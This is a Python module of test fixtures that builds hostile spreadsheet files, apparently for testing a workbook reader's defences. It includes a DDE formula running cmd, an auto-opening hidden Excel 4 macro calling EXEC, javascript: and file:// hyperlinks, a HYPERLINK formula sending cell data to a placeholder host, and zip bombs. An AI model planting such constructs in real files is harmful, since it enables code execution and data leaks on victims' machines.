"""How files that mean harm are made: workbooks with something wrong at one place, and what is no workbook at all."""

import os
import socket
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
from openpyxl.worksheet.hyperlink import Hyperlink
from reading_builders import (
    BOOK,
    MAIN,
    encrypted_xls,
    raw_book,
    raw_ods,
    sheet_xml,
    zipped,
)

from xlcore.demo.mistakes.compound import compound

Maker = Callable[[Path], object]
ONE = '<row r="1"><c r="A1"><v>1</v></c></row>'
OUTSIDE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def cells(more: str, **parts: str) -> Maker:
    """A workbook with 1 in A1 and these rows below."""
    return lambda path: raw_book(path, sheet_xml(ONE + more), **parts)


def beside(cell: str, **parts: str) -> Maker:
    """A workbook with 1 in A1 and this cell beside it."""
    return lambda path: raw_book(path, sheet_xml(ONE.replace("</row>", f"{cell}</row>")), **parts)


def after(xml: str) -> Maker:
    """A workbook with something behind its cells."""
    return lambda path: raw_book(path, sheet_xml(ONE, after=xml))


def content(data: bytes) -> Maker:
    """A file of these bytes."""
    return lambda path: path.write_bytes(data)


def changed(name: str, change: Callable[[bytes], bytes]) -> Maker:
    """A good workbook with one part put through `change`."""

    def make(path: Path) -> None:
        raw_book(path, sheet_xml(ONE))
        with zipfile.ZipFile(path) as old:
            parts = {one: old.read(one) for one in old.namelist()}
        parts[name] = change(parts.get(name, b""))
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
            for one, data in parts.items():
                new.writestr(one, data)

    return make


def patched(change: Callable[[bytearray], object]) -> Maker:
    """A good workbook with some of its bytes changed."""

    def make(path: Path) -> None:
        data = bytearray(raw_book(path, sheet_xml(ONE)).read_bytes())
        change(data)
        path.write_bytes(data)

    return make


def named(*names: str) -> Maker:
    """A good workbook with more parts of these names."""

    def make(path: Path) -> None:
        raw_book(path, sheet_xml(ONE))
        with zipfile.ZipFile(path, "a") as package:
            for name in names:
                package.writestr(name, b"x")

    return make


def ods(rows: str) -> Maker:
    """An .ods of these rows."""
    return lambda path: raw_ods(path, rows)


def strings(sst: str, cell: str = '<c r="B1" t="s"><v>0</v></c>') -> Maker:
    """A workbook with this table of strings."""
    return beside(cell, strings=sst)


def sheets(count: int) -> Maker:
    """A workbook whose list names the one sheet many times."""
    tags = "".join(f'<sheet name="S{number}" sheetId="{number}" r:id="r1"/>' for number in range(2, count + 1))
    return cells("", workbook=(BOOK % ("", "")).replace("</sheets>", f"{tags}</sheets>"))


def old(stream: bytes) -> Maker:
    """A compound file with this stream where an old workbook would be."""
    return lambda path: path.write_bytes(compound({"Workbook": stream}))


def far_xls(path: Path) -> None:
    """The two corners of an old workbook."""

    def record(kind: int, data: bytes = b"") -> bytes:
        return struct.pack("<2H", kind, len(data)) + data

    def begin(kind: int) -> bytes:
        return record(0x809, struct.pack("<4H2I", 0x600, kind, 0x0DBB, 0x07CC, 0, 6))

    position = len(begin(5)) + 4 + 9 + 4
    sheet = record(0x85, struct.pack("<IH3B", position, 0, 1, 0, 83))
    corners = (record(0x203, struct.pack("<3Hd", row, column, 0, 1.0)) for row, column in ((0, 0), (65_535, 255)))
    old(begin(5) + sheet + record(0x0A) + begin(0x10) + b"".join(corners) + record(0x0A))(path)


def lying_xls(at: int) -> Maker:
    """A compound file whose head announces four milliards of sectors."""

    def make(path: Path) -> None:
        data = bytearray(encrypted_xls(path).read_bytes())
        data[at : at + 4] = b"\xf0\xff\xff\xff"
        path.write_bytes(data)

    return make


def many_links(path: Path) -> None:
    """Hyperlinks over the whole sheet, some to places that no link of ours may lead to."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet["A1"] = 1
    for number in range(1, 20_000):
        sheet._hyperlinks.append(Hyperlink(ref="A1:XFD1048576", location=f"S!A{number}", display="x"))  # noqa: SLF001
    sheet["A2"] = "javascript:alert(1)"
    sheet["A2"].hyperlink = "javascript:alert(1)"
    sheet["A3"] = "file"
    sheet["A3"].hyperlink = "file:///C:/Windows/System32/calc.exe"
    book.save(path)


def overlapping(path: Path) -> None:
    """Many entries that all unpack the same bytes."""
    data = bytearray(raw_book(path, sheet_xml(ONE)).read_bytes())
    end = data.rfind(b"PK\x05\x06")
    start = int.from_bytes(data[end + 16 : end + 20], "little")
    first = data[start : data.find(b"PK\x01\x02", start + 4)]
    length = int.from_bytes(first[28:30], "little")
    copies = b"".join(first[:46] + b"%0*d" % (length, number) + first[46 + length :] for number in range(200))
    count = int.from_bytes(data[end + 10 : end + 12], "little") + 200
    data[end + 8 : end + 12] = struct.pack("<2H", count, count)
    data[end + 12 : end + 16] = struct.pack("<I", end - start + len(copies))
    path.write_bytes(data[:end] + copies + data[end:])


def duplicate(path: Path) -> None:
    """Two parts that are one name in capitals and small letters: readers would differ on which counts."""
    raw_book(path, sheet_xml(ONE))
    with zipfile.ZipFile(path, "a") as package:
        package.writestr("XL/Worksheets/First.xml", sheet_xml('<row r="1"><c r="A1"><v>2</v></c></row>'))


def bomb(part: str, text: str, times: int) -> Maker:
    """A part that unpacks to far more than it is."""
    return changed(part, lambda data: data[:20] + text.encode() * times + data[20:])


def external(path: Path) -> None:
    """A workbook that takes its number from another, by a link and by DDE."""
    links = f'<externalReferences xmlns:r="{OUTSIDE}"><externalReference r:id="r9"/></externalReferences>'
    dde = '<c r="B1"><f>[1]S!A1</f><v>7</v></c><c r="C1" t="str"><f>cmd|\'/c calc\'!A0</f><v>x</v></c>'
    dde += '<c r="D1" t="str"><f>HYPERLINK("http://x.invalid?"&amp;A1,"Mở")</f><v>Mở</v></c>'
    dde += '<c r="E1" t="str"><f>WEBSERVICE("http://x.invalid")</f><v>y</v></c>'
    raw_book(path, sheet_xml(ONE.replace("</row>", f"{dde}</row>")), workbook=BOOK % ("", links))
    with zipfile.ZipFile(path, "a") as package:
        package.writestr(
            "xl/externalLinks/externalLink1.xml", f'<externalLink xmlns="{MAIN}"><ddeLink/></externalLink>'
        )


def macro_sheet(path: Path) -> None:
    """A workbook with a sheet of Excel 4 macros that starts when it opens."""
    workbook = (BOOK % ("", "")).replace(
        "</sheets>",
        '<sheet name="M" sheetId="2" state="veryHidden" r:id="r7"/></sheets>'
        '<definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames>',
    )
    raw_book(path, sheet_xml(ONE), workbook=workbook)
    with zipfile.ZipFile(path) as old:
        parts = {one: old.read(one).decode() for one in old.namelist()}
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        "</Relationships>", f'<Relationship Id="r7" Type="{kind}" Target="macrosheets/m.xml"/></Relationships>'
    )
    parts["xl/macrosheets/m.xml"] = sheet_xml('<row r="1"><c r="A1" t="str"><f>EXEC("calc")</f><v>9</v></c></row>')
    zipped(path, parts)


def special(make: Callable[[Path], object]) -> Maker:
    """Something that is no regular file."""
    return make


def sparse(path: Path) -> None:
    """Eight gigabytes of nothing that take no room on the disk."""
    with path.open("wb") as file:
        file.truncate(8 << 30)


def unix_socket(path: Path) -> None:
    """A socket; its path must be short, so it is made elsewhere and moved."""
    short = Path("/tmp") / f"td{os.getpid()}"  # noqa: S108 - a socket's path may have 107 bytes
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(str(short))
    short.rename(path)
